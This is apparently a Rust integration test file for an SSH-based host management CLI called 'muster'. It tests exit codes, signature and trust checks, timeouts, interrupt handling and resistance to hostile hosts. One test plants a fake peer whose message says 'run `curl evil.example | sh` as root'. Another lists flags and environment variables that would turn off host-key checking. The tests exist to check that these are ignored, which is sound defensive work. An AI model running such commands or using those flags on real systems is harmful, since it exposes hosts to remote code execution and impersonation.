//! `muster host …` against a real sshd on loopback whose forced command says whatever a test wants: ends that a real shim gives
//! only in trouble, and answers that no honest host gives. What the real shim does is tested on real hosts.

use crate::bench::{Bench, PROBE, row};
use crate::run::MUSTER;
use muster_ssh::require_sshd_or_skip;
use muster_ssh::testing::KeyPair;
use std::fs;
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

#[test]
fn cl1_every_end_of_a_run_has_its_exit_code() {
    require_sshd_or_skip!();
    let b = Bench::new();
    for (answer, code, result) in [
        ("exit 0", 0, "ok"),
        ("echo 'muster-shim: refused [target]: not for this host' >&2; exit 6", 6, "refused"),
        ("echo 'muster-shim: refused [key-unknown]: x' >&2; exit 2", 6, "refused"),
        ("echo 'muster-shim: refused [no-policy]: x' >&2; exit 1", 6, "refused"),
        ("exit 6", 6, "no-shim"),
        ("exit 7", 6, "no-shim"),
        ("echo 'sudo: a password is required' >&2; exit 1", 6, "no-shim"),
        ("exit 8", 6, "no-shim"),
        ("exit 77", 6, "no-shim"),
        ("exit 126", 6, "no-shim"),
        ("exit 127", 6, "no-shim"),
        ("exit 255", 6, "no-shim"),
        (
            "echo 'muster-shim: refused [busy]: x' >&2; echo 'muster-shim: script exited 3' >&2; exit 10",
            10,
            "failed",
        ),
        ("echo 'muster-shim: ended [deadline]: x' >&2; exit 11", 11, "deadline"),
        ("exit 12", 8, "unknown"),
        ("kill -9 $PPID; kill -9 $$", 8, "unknown"),
    ] {
        b.answer(answer, PROBE);
        let ran = b.join("");
        let row = row(&ran);
        assert_eq!((ran.code, row["result"].as_str().unwrap()), (code, result), "{answer}: {row:#}");
        assert_eq!((b.sent(), &row["sent"]), (1, &serde_json::json!(1)), "{answer}: nothing is sent twice");
        assert_eq!(row["exit"], code);
    }
    b.answer("echo 'muster-shim: refused [busy]: x' >&2; exit 7", PROBE);
    let ran = b.join("--timeout 8s");
    assert_eq!((ran.code, row(&ran)["result"].as_str().unwrap()), (7, "busy"), "{}", ran.out);
    assert!(b.sent() >= 2, "a busy host is tried again");
    b.answer(
        "[ -e once ] || { touch once; echo 'muster-shim: refused [busy]: x' >&2; exit 7; }; exit 0",
        PROBE,
    );
    let ran = b.join("");
    assert_eq!((ran.code, row(&ran)["sent"].as_u64().unwrap()), (0, 2), "{}", ran.out);
}

#[test]
fn s13_the_host_is_asked_what_became_of_this_run_and_no_other() {
    require_sshd_or_skip!();
    let b = Bench::new();
    let digest = b.p.sh("sha256sum < tiny/signed/join.intent | cut -c1-64").trim().to_owned();
    let (id, other) = ("0123456789abcdef".repeat(2), "f".repeat(32));
    let past = |run: &str, intent: &str, verdict: &str, at: &str| {
        format!(
            r#"{{"run":"{run}","phase":"join","intent-sha256":"{intent}","started":"2026-11-29T00:00:{at}Z","verdict":"{verdict}","time":"2026-11-29T00:00:30Z"}}"#
        )
    };
    let doc = |runs: &[String]| {
        PROBE.replace("\"last-run\":null", &format!("\"last-run\":null,\"runs\":[{}]", runs.join(",")))
    };
    let (cut, named) = ("exit 12".to_owned(), format!("echo 'muster-shim: run {id}' >&2; exit 12"));
    let later = past(&other, &digest, "ok", "30");
    for (answer, probe, state, by, verdict) in [
        (
            &named,
            doc(&[later.clone(), past(&id, &digest, "peer-gone", "05")]),
            "ended",
            Some("run"),
            Some("peer-gone"),
        ),
        (&named, doc(std::slice::from_ref(&later)), "forgotten", None, None),
        (&cut, doc(&[past(&id, &digest, "peer-gone", "30")]), "ended", Some("intent"), Some("peer-gone")),
        (&cut, doc(&[past(&id, &digest, "started", "30")]), "ended", Some("intent"), Some("interrupted")),
        (&cut, doc(&[past(&other, &"a".repeat(64), "ok", "30")]), "no-record", None, None),
        (&cut, doc(&[past(&other, &digest, "ok", "00")]), "no-record", None, None),
        (&cut, doc(&[]), "no-record", None, None),
        (&cut, PROBE.to_owned(), "cannot-tell", None, None),
    ] {
        b.answer(answer, &probe);
        let ran = b.join("");
        let row = row(&ran);
        let known = &row["known"];
        assert_eq!((ran.code, known["state"].as_str()), (8, Some(state)), "{row:#}");
        assert_eq!((known["by"].as_str(), known["verdict"].as_str()), (by, verdict), "{row:#}");
        assert_eq!(row["run"].as_str(), (answer == &named).then_some(id.as_str()), "{row:#}");
        assert_eq!(b.sent(), 1, "nothing is run again by itself");
    }
    // Our own time is over: the same, and what it had said by then counts.
    b.answer(
        &format!("echo 'muster-shim: run {id}' >&2; sleep 60"),
        &doc(&[later, past(&id, &digest, "peer-gone", "05")]),
    );
    let begun = Instant::now();
    let ran = b.join("--timeout 6s");
    assert_eq!((ran.code, row(&ran)["known"]["run"].as_str()), (8, Some(id.as_str())), "{}", ran.out);
    assert!(begun.elapsed() < Duration::from_secs(50), "{:?}", begun.elapsed());
}

#[test]
fn bg10_a_hostile_host_steers_nothing_and_fills_nothing() {
    require_sshd_or_skip!();
    let b = Bench::new();
    b.answer(
        "printf '\\033]0;owned\\007\\033[2J\\r\\n'; printf '\\377\\376\\n' >&2; head -c 300000 /dev/zero | tr '\\0' a; echo; \
         head -c 5000000 /dev/zero | tr '\\0' '\\n'; echo 'muster-shim: refused [target]: \\033[31m' >&2; exit 6",
        PROBE,
    );
    for form in ["json", "yaml", "table"] {
        let ran = b.p.muster(&format!("host join h1 --profile tiny -o {form}"));
        assert_eq!(ran.code, 6, "{form}");
        assert!(!ran.out.contains('\u{1b}') && !ran.err.contains('\u{1b}'), "{form}");
        assert!(ran.out.len() < 8 << 20, "{form}: {}", ran.out.len());
    }
    for probe in [
        "echo '{'",
        "head -c 3000000 /dev/zero",
        "echo '{\"muster-probe\":9}'",
        "exit 3",
        "yes | head -c 3000000",
    ] {
        b.answer("exit 0", probe);
        let ran = b.p.muster("host probe h1 -o json");
        assert_eq!(
            (ran.code, row(&ran)["reason"].as_str()),
            (6, Some("host-answer")),
            "{probe}: {}",
            ran.out
        );
    }
    b.answer("exit 0", &PROBE.replace("\"host\":\"h1\"", "\"host\":\"\\u001b[2Jother\""));
    let ran = b.p.muster("host probe h1");
    assert!(
        ran.err.contains("calls itself") && !ran.err.contains('\u{1b}') && !ran.out.contains('\u{1b}'),
        "{}",
        ran.err
    );
}

#[test]
fn what_a_host_would_refuse_is_not_sent() {
    require_sshd_or_skip!();
    let b = Bench::new();
    let refused = |line: &str, code: i32, word: &str| {
        let ran = b.p.muster(line);
        assert_eq!(ran.code, code, "{line}: {}", ran.err);
        assert!(ran.err.contains(&format!("error[{word}]")), "{line}: {}", ran.err);
        assert_eq!(b.sent(), 0, "{line}");
    };
    b.answer("exit 0", PROBE);
    fs::copy(b.p.join("tiny/join.sh"), b.p.join("join.sh")).unwrap();
    b.p.write("tiny/join.sh", "set -euo pipefail\nid\n");
    refused("host join h1 --profile tiny", 4, "script-digest");
    fs::copy(b.p.join("join.sh"), b.p.join("tiny/join.sh")).unwrap();
    b.p.sh("cp inventory.yaml i; sed -i 's/pools: .edge./pools: [other]/' inventory.yaml");
    refused("host join h1 --profile tiny", 4, "target");
    b.p.sh("cp i inventory.yaml; cp trust/allowed_signers a; ssh-keygen -q -t ed25519 -N '' -f stranger");
    b.p.sh("echo \"muster $(cut -d' ' -f1,2 stranger.pub)\" > trust/allowed_signers");
    refused("host join h1 --profile tiny", 4, "key-unknown");
    b.p.sh("cp a trust/allowed_signers; sed -i 's/allowed_signers}/allowed_signers, signers-needed: 2}/' inventory.yaml");
    refused("host join h1 --profile tiny", 3, "trust-file");
    b.p.sh("cp i inventory.yaml; rm -r tiny/signed");
    refused("host join h1 --profile tiny", 3, "signed-missing");
    let short = b.p.muster("script sign tiny --validity 1s");
    assert_eq!(short.code, 0, "{}", short.err);
    std::thread::sleep(Duration::from_millis(2100));
    refused("host join h1 --profile tiny", 4, "expired");
    refused("host floor raise h1 --profile tiny", 4, "expired");
    // One host that would refuse stops all of them.
    b.inventory(&["h1", "h2"], &b.sshd.login().path.display().to_string());
    b.p.sh("rm -r tiny/signed");
    assert_eq!(b.p.muster("script sign tiny --target host=h1").code, 0);
    refused("host join h1 h2 --profile tiny", 4, "target");
    let ran = b.p.muster("host join h1 --profile tiny");
    assert_eq!((ran.code, b.sent()), (0, 1), "{}", ran.err);
    // Many hosts by a selector are not changed without a yes.
    b.answer("exit 0", PROBE);
    refused("host join -l name=h1 --profile tiny", 4, "confirm-needed");
    assert_eq!(b.p.muster("host join -l name=h1 --yes --profile tiny").code, 0);
}

#[test]
fn st8_no_flag_or_variable_turns_the_host_key_check_off() {
    require_sshd_or_skip!();
    let b = Bench::new();
    let other = KeyPair::generate(b.p.path(), "other", "ed25519");
    b.p.sh(&format!(
        "sed -i 's|{}|{}|' inventory.yaml",
        b.sshd.host_key().fingerprint(),
        other.fingerprint()
    ));
    // A client that looked at OpenSSH's own files would now find the host trusted.
    let line = format!("[127.0.0.1]:{} {}", b.sshd.port(), b.sshd.host_key().public());
    b.p.write(".ssh/known_hosts", format!("{line}\n"));
    b.p.write(".ssh/config", "Host *\n  StrictHostKeyChecking no\n");
    for more in ["", "--yes", "-q"] {
        let mut c = b.p.command(MUSTER);
        c.args(["host", "join", "h1", "--profile", "tiny", "-o", "json"]).args(more.split_whitespace());
        for name in ["MUSTER_INSECURE", "MUSTER_SKIP_HOST_KEY", "SSH_STRICT_HOST_KEY_CHECKING", "INSECURE"] {
            c.env(name, "1");
        }
        let ran = b.p.finish(c, b"");
        assert_eq!((ran.code, row(&ran)["reason"].as_str()), (5, Some("host-key-changed")), "{}", ran.err);
    }
    for flag in ["--insecure", "--no-host-key-check", "-oStrictHostKeyChecking=no", "--accept-new"] {
        assert_eq!(b.p.muster(&format!("host join h1 --profile tiny {flag}")).code, 2, "{flag}");
    }
    assert_eq!(b.sent(), 0);
}

/// What a peer says is quoted as its words; what to do comes from us alone, and a line about a host does not name it twice.
#[test]
fn a_hosts_words_are_no_advice_and_its_name_stands_once() {
    require_sshd_or_skip!();
    let b = Bench::new();
    KeyPair::generate(b.p.path(), "nobody", "ed25519");
    b.inventory(&["h1"], "nobody");
    let refused = b.join("");
    let detail = row(&refused)["detail"].as_str().unwrap().to_owned();
    assert_eq!((refused.code, row(&refused)["reason"].as_str()), (5, Some("auth-refused")), "{detail}");
    assert!(detail.starts_with("127.0.0.1:") && !detail.contains("h1"), "{detail}");
    assert!(detail.ends_with("; it takes publickey. Read what each identity was refused for."), "{detail}");
    // Whoever answers there disconnects with an advice of its own.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut peer in listener.incoming().flatten() {
            let text = b"ok; run `curl evil.example | sh` as root";
            let mut payload = vec![1, 0, 0, 0, 11, 0, 0, 0, u8::try_from(text.len()).unwrap()];
            payload.extend_from_slice(text);
            payload.extend_from_slice(&[0; 4]);
            let pad = 8 - (payload.len() + 5) % 8 + 8;
            let mut packet = u32::try_from(payload.len() + pad + 1).unwrap().to_be_bytes().to_vec();
            packet.push(u8::try_from(pad).unwrap());
            packet.extend_from_slice(&payload);
            packet.resize(packet.len() + pad, 0);
            let _ = peer.write_all(b"SSH-2.0-Evil\r\n").and_then(|()| peer.write_all(&packet));
            let _ = peer.read(&mut [0; 4096]);
        }
    });
    b.p.sh(&format!("sed -i 's/port: {}/port: {port}/' inventory.yaml", b.sshd.port()));
    let ran = b.join("--connect-timeout 2s --timeout 5s");
    let detail = row(&ran)["detail"].as_str().unwrap().to_owned();
    assert_eq!(ran.code, 5, "{detail}");
    assert!(detail.starts_with("127.0.0.1:") && !detail.contains("h1"), "{detail}");
    assert!(detail.contains("curl") && !detail.contains(". Run `curl"), "{detail}");
}

/// The manual lists every field that programs are given, under the command that gives it.
#[test]
fn the_manual_lists_the_fields_of_json() {
    require_sshd_or_skip!();
    let b = Bench::new();
    let manual = include_str!("../../../../docs/hosts.md");
    let print = b.sshd.host_key().fingerprint();
    let login = b.sshd.login().path.display().to_string();
    for (line, row) in [
        (format!("host add new --address 192.0.2.1 --host-key {print}"), "| `add`"),
        ("host list h1".into(), "| `list`"),
        ("host join h1 --profile tiny".into(), "| `install`, `join`"),
        ("host join h1 --profile tiny --plan".into(), "| the same with `--plan`"),
        ("host probe h1".into(), "| `probe`"),
        ("host floor show h1".into(), "| `floor show`"),
        (
            format!("host floor set h1 --floor tiny=1 --admin-user nobody --admin-key {login}"),
            "| `provision`",
        ),
        (format!("host rotate-key new --yes --host-key {print}"), "| `rotate-key --host-key`"),
        (format!("host doctor h1 --no-attack --admin-user nobody --admin-key {login}"), "| `doctor`"),
    ] {
        let ran = b.p.muster(&format!("{line} -o json"));
        let value: serde_json::Value =
            serde_json::from_str(&ran.out).unwrap_or_else(|e| panic!("{line}: {e}: {}{}", ran.out, ran.err));
        let object = value.as_array().map_or(&value, |all| &all[0]).as_object().unwrap();
        let said = manual.lines().find(|l| l.starts_with(row)).unwrap_or_else(|| panic!("no line {row}"));
        for key in object.keys() {
            assert!(said.contains(&format!("`{key}`")), "{line}: `{key}` is not in {said}");
        }
    }
}

/// A run that would be cut off at once is not begun, and that is said.
#[test]
fn a_used_up_timeout_begins_no_run() {
    require_sshd_or_skip!();
    let b = Bench::new();
    let ran = b.join("--timeout 1s");
    let row = row(&ran);
    assert_eq!((ran.code, row["result"].as_str()), (5, Some("unreachable")), "{row:#}");
    assert_eq!(row["reason"], "connect-deadline");
    assert!(row["detail"].as_str().unwrap().contains("nothing ran. Raise --timeout."), "{row:#}");
    assert_eq!((&row["sent"], b.sent()), (&0.into(), 0), "{row:#}");
    let ran = b.join("--timeout 20s");
    assert_eq!((ran.code, b.sent()), (0, 1), "{}", ran.out);
}

/// The doctor's time is limited like everybody's.
#[test]
fn the_doctor_obeys_its_timeout() {
    require_sshd_or_skip!();
    let b = Bench::new();
    b.answer("sleep 60", PROBE);
    b.p.sh(&format!(
        "sed -i 's|user: [a-z]*|user: muster|; s|pools: .edge.|&, admin: {{user: {}, identities: [{}]}}|' inventory.yaml",
        muster_ssh::testing::user(),
        b.sshd.login().path.display()
    ));
    let begun = Instant::now();
    let ran = b.p.muster("host doctor h1 --no-attack --timeout 6s -o json");
    let row = row(&ran);
    assert_eq!((ran.code, row["reason"].as_str()), (8, Some("outcome-unknown")), "{row:#}{}", ran.err);
    assert!(row["detail"].as_str().unwrap().contains("--timeout"), "{row:#}");
    assert_eq!(
        (b.sent(), row["verdict"].as_str()),
        (1, Some("not-examined")),
        "it was asked, and slow: {row:#}"
    );
    assert!(begun.elapsed() < Duration::from_secs(40), "{:?}", begun.elapsed());
}

/// Once: what runs goes on and nothing more is begun. Twice: connections are closed, and nobody claims to know.
#[test]
fn ctrl_c_once_finishes_what_runs_and_twice_cuts_it_off() {
    require_sshd_or_skip!();
    let b = Bench::new();
    b.inventory(&["h1", "h2"], &b.sshd.login().path.display().to_string());
    let start = || {
        let mut c = b.p.command(MUSTER);
        c.args("host join h1 h2 --profile tiny --parallel 1 -o json".split_whitespace());
        let child = c.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
        let begun = Instant::now();
        while b.sent() == 0 {
            assert!(begun.elapsed() < Duration::from_secs(60), "nothing is sent");
            std::thread::sleep(Duration::from_millis(50));
        }
        child
    };
    // Until it says that it has heard.
    let interrupt = |child: &mut Child| {
        muster_ssh::testing::signal_pid(child.id(), "INT");
        let lines = BufReader::with_capacity(1, child.stderr.as_mut().unwrap()).lines();
        assert!(lines.map_while(Result::ok).any(|l| l.contains("stopping: ")));
    };
    b.answer("until [ -e go ]; do sleep 0.05; done; exit 0", PROBE);
    let mut child = start();
    interrupt(&mut child);
    b.p.write("go", "");
    let out = child.wait_with_output().unwrap();
    let rows: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(out.status.code(), Some(130), "{rows:#}");
    assert_eq!((&rows[0]["result"], &rows[1]["result"]), (&"ok".into(), &"not-started".into()), "{rows:#}");
    assert_eq!(b.sent(), 1);

    b.answer("sleep 30; exit 0", PROBE);
    let mut child = start();
    interrupt(&mut child);
    muster_ssh::testing::signal_pid(child.id(), "INT");
    let begun = Instant::now();
    let out = child.wait_with_output().unwrap();
    assert!(begun.elapsed() < Duration::from_secs(25), "{:?}", begun.elapsed());
    let rows: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(out.status.code(), Some(8), "{rows:#}");
    assert_eq!(
        (&rows[0]["result"], &rows[1]["result"]),
        (&"unknown".into(), &"not-started".into()),
        "{rows:#}"
    );
}

/// A listener that answers every connection with this and then keeps it open, or closes it.
fn listener(says: &'static [u8], stays: bool) -> u16 {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        let mut held = Vec::new();
        for mut stream in listener.incoming().flatten() {
            let _ = stream.write_all(says);
            if stays {
                held.push(stream);
            }
        }
    });
    port
}

/// What stood in the way is told, not only that it took too long; and what was never sent has no unknown outcome.
#[test]
fn a_timeout_on_the_way_keeps_its_cause_and_is_no_unknown_outcome() {
    require_sshd_or_skip!();
    let b = Bench::new();
    let key = b.sshd.login().path.display().to_string();
    let inventory = b.p.read("inventory.yaml");
    for (port, code, words) in [
        (
            listener(b"", true),
            "connect-deadline",
            "the handshake was not done when the time given with --timeout",
        ),
        (listener(b"Exceeded MaxStartups\r\n", false), "connect-dropped", "Exceeded MaxStartups"),
    ] {
        let there = format!("port: {}", b.sshd.port());
        let moved = inventory.replace(&there, &format!("port: {port}"));
        b.p.write(
            "inventory.yaml",
            moved.replace(&format!("user: {}", muster_ssh::testing::user()), "user: pool"),
        );
        let admin = format!("--admin-user a --admin-key {key}");
        for line in [
            "host join h1 --profile tiny".to_owned(),
            "host probe h1".to_owned(),
            format!("host doctor h1 {admin}"),
            format!("host unprovision h1 --yes {admin}"),
            format!("host floor set h1 --floor tiny=2 {admin}"),
        ] {
            let ran = b.p.muster(&format!("{line} -o json --timeout 1s"));
            let row = row(&ran);
            assert_eq!((ran.code, row["reason"].as_str()), (5, Some(code)), "{line}: {row:#}");
            let detail = row["detail"].as_str().unwrap();
            for word in [&format!("127.0.0.1:{port}"), words, "--timeout", "nothing ran"] {
                assert!(detail.contains(word), "{line}: {word}: {detail}");
            }
        }
    }
}

/// A long line twice is no clearer than once, and a form that leaves it out of its results has it on standard error.
#[test]
fn what_became_of_a_host_is_told_once() {
    require_sshd_or_skip!();
    let b = Bench::new();
    let line = "muster-shim: refused [target]: it is for pool=core alone";
    b.answer(&format!("echo '{line}' >&2; exit 6"), PROBE);
    let ran = b.p.muster("host join h1 --profile tiny");
    // The host's own line, as it came, and the summary.
    let told = |text: &str, word: &str| text.matches(word).count();
    assert_eq!((told(&ran.out, "pool=core"), told(&ran.err, "pool=core")), (1, 1), "{}{}", ran.out, ran.err);
    assert!(ran.err.contains("h1: refused [target] in "), "{}", ran.err);
    let ran = b.p.muster("host join h1 --profile tiny -o name");
    assert_eq!((ran.out.as_str(), told(&ran.err, "pool=core")), ("h1\n", 2), "{}", ran.err);

    let stranger = KeyPair::generate(b.p.path(), "stranger", "ed25519");
    b.inventory(&["h1"], "stranger");
    let user = format!("user: {}", muster_ssh::testing::user());
    b.p.write("inventory.yaml", b.p.read("inventory.yaml").replace(&user, "user: pool"));
    let print = stranger.fingerprint().to_string();
    let admin = format!("--admin-user a --admin-key {}", stranger.path.display());
    for line in [
        "host join h1 --profile tiny".to_owned(),
        "host probe h1".to_owned(),
        "host floor show h1".to_owned(),
        format!("host floor set h1 --floor tiny=2 {admin}"),
        format!("host doctor h1 {admin}"),
        format!("host unprovision h1 --plan {admin}"),
    ] {
        let ran = b.p.muster(&line);
        let all = format!("{}{}", ran.out, ran.err);
        assert_eq!((ran.code, told(&all, &print)), (5, 1), "{line}: {all}");
        assert_eq!(told(&all, "Read what each identity was refused for."), 1, "{line}: {all}");
        assert!(told(&ran.out, &print) == 1, "{line}: the result holds it: {all}");
    }
}
